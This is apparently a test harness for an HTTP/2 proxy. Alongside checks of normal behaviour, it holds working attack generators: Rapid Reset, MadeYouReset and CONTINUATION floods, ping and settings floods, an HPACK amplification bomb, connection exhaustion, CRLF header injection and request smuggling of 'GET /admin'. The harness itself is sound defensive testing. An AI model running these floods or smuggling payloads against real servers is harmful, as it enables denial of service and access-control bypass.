#!/usr/bin/python3
"""HTTP/2 clients by the h2 library, well-behaved and hostile: http2_peer.py STORY CA [SOURCE]. Prints what happened."""
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

PATIENCE = 20


class Client:
    def __init__(self, ca, source="127.0.0.1"):
        self.again = lambda: Client(ca, source)
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", 443), timeout=PATIENCE, source_address=(source, 0))
        self.socket = context.wrap_socket(raw, server_hostname="shop.test")
        assert self.socket.selected_alpn_protocol() == "h2"
        # Hostile frames are ours to write, so the library does not look at what is sent.
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(
            client_side=True, header_encoding="utf-8", validate_outbound_headers=False,
            normalize_outbound_headers=False))
        self.h2.initiate_connection()
        self.flush()
        self.events = []
        self.open = True

    def flush(self):
        self.socket.sendall(self.h2.data_to_send())

    def send_raw(self, data):
        try:
            self.socket.sendall(data)
        except OSError:
            self.open = False

    def request(self, path="/", method="GET", extra=(), ends=True):
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, [(":method", method), (":scheme", "https"), (":authority", "shop.test"),
                                      (":path", path), *extra], end_stream=ends)
        self.flush()
        return stream

    def read(self, window_updates=True):
        """Reads once; False at the end of the connection."""
        try:
            data = self.socket.recv(65536)
        except (ConnectionError, ssl.SSLError):
            data = b""
        if not data:
            self.open = False
            return False
        for event in self.h2.receive_data(data):
            if isinstance(event, h2.events.DataReceived) and window_updates:
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            self.events.append(event)
        try:
            self.flush()
        except OSError:
            self.open = False
        return True

    def until(self, condition, **how):
        deadline = time.monotonic() + PATIENCE
        while not condition():
            assert time.monotonic() < deadline, "nothing came"
            if not self.read(**how):
                break
        return condition()

    def of(self, kind, stream=None):
        return [e for e in self.events if isinstance(e, kind) and (stream is None or e.stream_id == stream)]

    def ended(self, stream):
        return self.of(h2.events.StreamEnded, stream) or self.of(h2.events.StreamReset, stream)

    def status(self, stream):
        return dict(self.of(h2.events.ResponseReceived, stream)[0].headers)[":status"]

    def body(self, stream):
        return b"".join(e.data for e in self.of(h2.events.DataReceived, stream))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def slow_stream(client):
    """A stream whose window stays closed, and fifty quick ones beside it."""
    client.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1000})
    client.flush()
    slow = client.request("/large")
    client.until(lambda: len(client.body(slow)) == 1000, window_updates=False)
    for _ in range(50):
        quick = client.request("/")
        client.until(lambda q=quick: client.ended(q))
        assert client.body(quick) == b"ok", client.body(quick)
    assert len(client.body(slow)) == 1000
    client.h2.increment_flow_control_window(1 << 24, slow)
    client.h2.increment_flow_control_window(1 << 24)
    client.flush()
    client.until(lambda: client.ended(slow))
    print("50 beside", len(client.body(slow)))


def trailers(client):
    stream = client.request("/trailers", extra=[("te", "trailers")])
    client.until(lambda: client.ended(stream))
    fields = client.of(h2.events.TrailersReceived, stream)[0].headers
    print(client.status(stream), client.body(stream).decode(), dict(fields))


def interim(client):
    stream = client.request("/hints", method="POST", ends=False)
    client.until(lambda: client.of(h2.events.InformationalResponseReceived, stream))
    client.h2.send_data(stream, b"body", end_stream=True)
    client.flush()
    client.until(lambda: client.ended(stream))
    first = client.of(h2.events.InformationalResponseReceived, stream)[0]
    print(dict(first.headers)[":status"], client.status(stream), client.body(stream).decode())


def early_answer(client):
    """The answer comes while the request has not ended: then, once much was sent nonetheless, a reset without error."""
    stream = client.request("/early", method="POST", ends=False)
    client.h2.send_data(stream, b"begin")
    client.flush()
    client.until(lambda: client.ended(stream))
    assert not client.of(h2.events.StreamReset, stream), "too early for some clients"
    sent = 0
    while not client.of(h2.events.StreamReset, stream):
        window = min(client.h2.local_flow_control_window(stream), client.h2.max_outbound_frame_size)
        if window > 0:
            client.h2.send_data(stream, bytes(window))
            client.flush()
            sent += window
        else:
            client.read()
    assert sent > 1 << 20, sent
    print(client.status(stream), client.body(stream).decode(), client.of(h2.events.StreamReset, stream)[0].error_code)


def cut_answer(client):
    stream = client.request("/cut")
    client.until(lambda: client.of(h2.events.StreamReset, stream))
    print(client.status(stream), client.of(h2.events.StreamReset, stream)[0].error_code)


def malformed(client):
    """Each is refused, and the connection goes on."""
    extras = [[("connection", "close")], [("transfer-encoding", "chunked")], [("Upper", "case")],
              [("te", "gzip")], [("a", "b\r\nc: d")], [("host", "other.test")], [(":path", "/again")],
              [("content-length", "5")]]
    statuses = []
    for extra in extras:
        stream = client.request("/", extra=extra)
        client.until(lambda s=stream: client.ended(s))
        statuses.append(client.status(stream))
    stream = client.request("/")
    client.until(lambda: client.ended(stream))
    print(*statuses, client.status(stream))


def flood(client, frames):
    """Sends until the proxy has had enough. The library would stumble over what this causes."""
    received = b""
    client.socket.settimeout(0.001)
    deadline = time.monotonic() + PATIENCE
    while client.open and time.monotonic() < deadline:
        client.send_raw(frames())
        try:
            data = client.socket.recv(65536)
            received += data
            client.open = client.open and data != b""
        except (TimeoutError, ssl.SSLWantReadError):
            pass
        except (ConnectionError, ssl.SSLError):
            client.open = False
    while len(received) >= 9:
        size = int.from_bytes(received[:3], "big")
        if received[3] == 7:
            print("goaway", int.from_bytes(received[13:17], "big"))
        received = received[9 + size:]


def hanging_request(stream):
    path, host = b"/hang", b"shop.test"
    return frame(1, 5, stream, bytes([0x82, 0x87, 0x04, len(path)]) + path + bytes([0x01, len(host)]) + host)


def streams_with(client, what):
    """Requests that are followed by something that ends them, without end."""
    stream = -1

    def frames():
        nonlocal stream
        sent = b""
        for _ in range(20):
            stream += 2
            sent += hanging_request(stream) + what(stream)
        return sent
    flood(client, frames)


def rapid_reset(client):
    """CVE-2023-44487."""
    streams_with(client, lambda stream: frame(3, 0, stream, struct.pack(">I", 8)))


def made_you_reset(client):
    """CVE-2025-8671: a window that overflows makes the server reset the stream itself."""
    streams_with(client, lambda stream: frame(8, 0, stream, struct.pack(">I", 0x7fffffff)))


def ping_flood(client):
    flood(client, lambda: frame(6, 0, 0, b"12345678") * 100)


def settings_flood(client):
    flood(client, lambda: frame(4, 0, 0) * 100)


def empty_frames(client):
    client.send_raw(frame(1, 4, 1, hanging_request(1)[9:]))
    flood(client, lambda: frame(0, 0, 1) * 100)


def continuation(client):
    """CVE-2024-27316 and its kin: a header section without an end."""
    client.send_raw(frame(1, 1, 1, bytes([0x82])))
    flood(client, lambda: frame(9, 0, 1) * 100)


def bomb(client):
    """A field of 4,000 bytes that is said once and then by a byte each time, in requests whose answers nobody takes."""
    client.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    client.flush()
    path, host, value = b"/large", b"shop.test", b"v" * 4000
    head = bytes([0x82, 0x87, 0x04, len(path)]) + path + bytes([0x01, len(host)]) + host
    taught = bytes([0x40, 1]) + b"x" + bytes([0x7f]) + bytes([(4000 - 127) & 0x7f | 0x80, (4000 - 127) >> 7]) + value
    client.send_raw(frame(1, 5, 1, head + taught))
    sent = 0
    for stream in range(3, 200, 2):
        block = head + bytes([0xbe]) * 7
        sent += len(block)
        client.send_raw(frame(1, 5, stream, block))
    # What the library makes of streams that it has not opened is of no interest: the frames are counted.
    received, refused = b"", 0
    client.socket.settimeout(1)
    try:
        while data := client.socket.recv(65536):
            received += data
    except TimeoutError:
        pass
    while len(received) >= 9:
        size = int.from_bytes(received[:3], "big")
        refused += received[3] == 3 and int.from_bytes(received[9:13], "big") == 7
        received = received[9 + size:]
    print("refused", refused, "of 100")


def websocket(client):
    """RFC 8441, with wsproto on top: messages go both ways, then a close handshake."""
    import wsproto.frame_protocol
    import wsproto.connection
    from wsproto.connection import Connection, ConnectionType
    client.until(lambda: client.of(h2.events.RemoteSettingsChanged))
    assert client.h2.remote_settings.enable_connect_protocol == 1
    stream = client.request("/echo", method="CONNECT", ends=False,
                            extra=[(":protocol", "websocket"), ("sec-websocket-version", "13")])
    client.until(lambda: client.of(h2.events.ResponseReceived, stream))
    print(client.status(stream))
    peer = Connection(ConnectionType.CLIENT)

    def send(data):
        while data:
            room = min(client.h2.local_flow_control_window(stream), client.h2.max_outbound_frame_size)
            if room == 0:
                client.read()
                continue
            client.h2.send_data(stream, data[:room])
            client.flush()
            data = data[room:]

    seen = 0
    for message in ["hello", "x" * 300_000, ""]:
        send(peer.send(wsproto.events.Message(data=message)))
        got = ""
        finished = False
        while not finished:
            client.until(lambda: len(client.of(h2.events.DataReceived, stream)) > seen)
            for event in client.of(h2.events.DataReceived, stream)[seen:]:
                peer.receive_data(event.data)
                seen += 1
            for event in peer.events():
                got += event.data
                finished = event.message_finished
        assert got == message, "the echo differs"
    send(peer.send(wsproto.events.CloseConnection(code=1000)))
    client.until(lambda: client.ended(stream))
    for event in client.of(h2.events.DataReceived, stream)[seen:]:
        peer.receive_data(event.data)
    print("closed", [int(e.code) for e in peer.events()])


def full(client):
    """Every connection that a worker may have is in the middle of a response while many more want to come."""
    clients = [client] + [client.again() for _ in range(15)]
    streams = [one.request("/large") for one in clients]
    for one, stream in zip(clients, streams):
        assert one.until(lambda: one.of(h2.events.ResponseReceived, stream))
    turned_away = 0
    for _ in range(64):
        try:
            client.again()
        except OSError:
            turned_away += 1
    whole = 0
    for one, stream in zip(clients, streams):
        one.until(lambda: one.ended(stream))
        whole += sum(len(event.data) for event in one.of(h2.events.DataReceived, stream)) == 8_000_000
    print(f"{turned_away} turned away, {whole} of {len(clients)} whole")


def smuggle(client):
    """Extended CONNECT (RFC 8441) and requests, each with a length that its body does not have, or that has no body: none is
    answered as a success, and none makes the next one on the connection another."""
    smuggled = b"GET /admin HTTP/1.1\r\nHost: shop.test\r\n\r\n"
    length = ("content-length", str(len(smuggled)))
    tries = [("CONNECT", "/upgrade", [(":protocol", "websocket"), ("sec-websocket-version", "13"), length]),
             ("CONNECT", "/upgrade", [(":protocol", "h2c"), length]),
             ("CONNECT", "/upgrade", [(":protocol", "foo")]),
             ("GET", "/upgrade", [("content-length", "4")])]
    through = 0
    for method, path, extra in tries:
        one = client.again()
        stream = one.request(path, method=method, extra=extra, ends=False)
        one.send_raw(frame(0, 1, stream, smuggled))
        one.until(lambda o=one, s=stream: o.ended(s))
        good = one.of(h2.events.ResponseReceived, stream) and one.status(stream) == "200"
        through += bool(good) or b"guarded" in one.body(stream)
        if one.open:
            after = one.request("/after")
            if one.until(lambda o=one, s=after: o.ended(s)) and not one.of(h2.events.StreamReset, after):
                through += not one.body(after).startswith(b"GET /after")
    print(through, "of", len(tries), "got through")


STORIES = [smuggle, slow_stream, trailers, interim, early_answer, cut_answer, malformed, rapid_reset, made_you_reset, ping_flood,
           settings_flood, empty_frames, continuation, bomb, websocket, full]
{story.__name__: story for story in STORIES}[sys.argv[1]](Client(*sys.argv[2:]))
